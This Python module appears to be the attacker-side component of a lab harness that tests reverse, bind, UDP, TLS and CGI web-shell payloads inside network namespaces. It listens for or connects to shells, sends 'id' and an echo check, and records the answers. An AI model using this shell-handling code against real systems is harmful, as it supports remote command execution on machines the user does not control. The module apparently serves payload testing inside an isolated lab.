"""The attacker's side: waits for the shell (or connects to it), sends `id` and a random word, checks both answers."""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from lab.namespaces import PEER_IP, PEER_IP6, VICTIM_IP, VICTIM_IP6, Machine
from lab.payloads import PORT, PORT2, Payload

CONNECT_SECONDS = 15.0
ANSWER_SECONDS = 6.0
#: What an attacker would see before typing: the prompt, or nothing.
PROMPT_SECONDS = 0.3
RETRY_SECONDS = 0.1


@dataclass(slots=True)
class Conversation:
    """What became of one payload. `connected_at` is time.time(); `heard` is all that came back."""

    connected_at: float | None = None
    shell: bool = False
    heard: bytes = b""
    trouble: str = ""


class Channel:
    """A connection as the attacker uses it: bytes out over one socket, answers in over the same or another."""

    def __init__(self, out: socket.socket, answers: socket.socket, *, bytewise: bool = False) -> None:
        self.out = out
        self.answers = answers
        self.bytewise = bytewise
        self.heard = b""
        answers.setblocking(False)

    def say(self, line: str) -> None:
        """Send a line; over UDP one byte a datagram, since bash reads one byte and drops the rest of a datagram."""
        data = line.encode() + b"\n"
        for piece in (bytes([byte]) for byte in data) if self.bytewise else [data]:
            self.out.sendall(piece)

    def hear(self, wanted: bytes, seconds: float) -> bool:
        """Collect answers until `wanted` is among them; False when the time is up or the other side closed."""
        deadline = time.monotonic() + seconds
        while wanted == b"" or wanted not in self.heard:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            if not self._pending() and not select.select([self.answers], [], [], left)[0]:
                return False
            try:
                data = self.answers.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            if not data:
                return False
            self.heard += data
        return True

    def _pending(self) -> bool:
        return isinstance(self.answers, ssl.SSLSocket) and self.answers.pending() > 0

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.say("exit")
        self.out.close()
        self.answers.close()


class WebChannel(Channel):
    """A shell behind a web server: each line is a request of its own, each response an answer."""

    def __init__(self, connect: Callable[[], socket.socket]) -> None:
        self.heard = b""
        self._connect = connect
        self._answer = b""

    def say(self, line: str) -> None:
        body = line.encode() + b"\n"
        head = f"POST /cgi-bin/shell HTTP/1.0\r\nHost: victim\r\nContent-Length: {len(body)}\r\n\r\n"
        with self._connect() as connection:
            connection.sendall(head.encode() + body)
            while data := connection.recv(65536):
                self._answer += data

    def hear(self, wanted: bytes, seconds: float) -> bool:
        self.heard, self._answer = self.heard + self._answer, b""
        return wanted in self.heard

    def close(self) -> None:
        """Leave the shell waiting at its pipe: there is no connection to close."""


class Listener:
    """The attacker's open ports for one payload; close it after use."""

    def __init__(self, payload: Payload, peer: Machine, certificate: Path) -> None:
        self.payload = payload
        self.peer = peer
        self.certificate = certificate
        self.sockets: list[socket.socket] = []
        if payload.direction == "reverse" or payload.transport == "udp":
            self._open()

    def _open(self) -> None:
        if self.payload.transport == "udp":
            self.sockets = [self.peer.make_socket(socket.AF_INET, socket.SOCK_DGRAM, (PEER_IP, PORT))]
            return
        family, host = (socket.AF_INET6, PEER_IP6) if self.payload.transport == "tcp6" else (socket.AF_INET, PEER_IP)
        ports = (PORT, PORT2) if self.payload.transport == "tcp2" else (PORT,)
        for port in ports:
            self.sockets.append(self.peer.make_socket(family, socket.SOCK_STREAM, (host, port), listen=True))

    def close(self) -> None:
        for listening in self.sockets:
            listening.close()

    def converse(self, word: str) -> Conversation:
        """Wait for the shell, ask it two things and say goodbye. `word` must come back from `echo`."""
        told = Conversation()
        try:
            channel = self._open_channel()
        except OSError as error:
            told.trouble = f"no connection: {error}"
            return told
        told.connected_at = time.time()
        try:
            channel.hear(b"", PROMPT_SECONDS)
            channel.say("id")
            knows_user = channel.hear(b"uid=", ANSWER_SECONDS)
            channel.say(f"echo {word}")
            told.shell = knows_user and channel.hear(word.encode(), ANSWER_SECONDS)
            if not told.shell:
                told.trouble = "connected, but no answer to `id`" if not knows_user else "no answer to `echo`"
        except OSError as error:
            told.trouble = f"the connection broke: {error}"
        finally:
            told.heard = channel.heard
            channel.close()
        return told

    def _open_channel(self) -> Channel:
        if self.payload.transport == "udp":
            return self._first_datagram()
        if self.payload.direction == "reverse":
            return self._accept()
        if self.payload.transport == "http":
            self._connect().close()  # until something listens
            return WebChannel(self._connect)
        connection = self._connect()
        if self.payload.transport == "tls":
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            connection = context.wrap_socket(connection)
        return Channel(connection, connection)

    def _accept(self) -> Channel:
        taken = []
        for listening in self.sockets:
            listening.settimeout(CONNECT_SECONDS)
            connection, _ = listening.accept()
            connection.settimeout(CONNECT_SECONDS)
            taken.append(connection)
        if self.payload.transport == "tls":
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(self.certificate)
            taken = [context.wrap_socket(taken[0], server_side=True)]
        return Channel(taken[0], taken[-1])

    def _first_datagram(self) -> Channel:
        listening = self.sockets[0]
        if self.payload.attacker_first or self.payload.direction == "bind":
            first, sender = self._knock(listening)
        else:
            listening.settimeout(CONNECT_SECONDS)
            first, sender = listening.recvfrom(65536)
        listening.connect(sender)
        channel = Channel(listening, listening, bytewise=True)
        channel.heard = first
        return channel

    def _knock(self, listening: socket.socket) -> tuple[bytes, tuple[str, int]]:
        """Send a harmless command to the victim's port until something answers."""
        deadline = time.monotonic() + CONNECT_SECONDS
        while time.monotonic() < deadline:
            listening.sendto(b"echo\n", (VICTIM_IP, PORT))
            if select.select([listening], [], [], RETRY_SECONDS)[0]:
                with contextlib.suppress(ConnectionRefusedError):
                    return listening.recvfrom(65536)
        raise TimeoutError("nothing answers")

    def _connect(self) -> socket.socket:
        """Connect to the victim's port as soon as something listens there."""
        deadline = time.monotonic() + CONNECT_SECONDS
        family, host = (
            (socket.AF_INET6, VICTIM_IP6) if self.payload.transport == "tcp6" else (socket.AF_INET, VICTIM_IP)
        )
        while True:
            connection = self.peer.make_socket(family, socket.SOCK_STREAM)
            connection.settimeout(CONNECT_SECONDS)
            try:
                connection.connect((host, PORT))
                return connection
            except ConnectionRefusedError:
                connection.close()
                if time.monotonic() > deadline:
                    raise
                time.sleep(RETRY_SECONDS)


def make_certificate(folder: Path) -> Path:
    """Make a self-signed certificate with its key in one file, for the listeners that speak TLS."""
    path = folder / "certificate.pem"
    command = ["/usr/bin/openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=lab"]
    subprocess.run([*command, "-keyout", str(path), "-out", str(folder / "cert.part")], check=True, capture_output=True)
    path.write_bytes(path.read_bytes() + (folder / "cert.part").read_bytes())
    return path
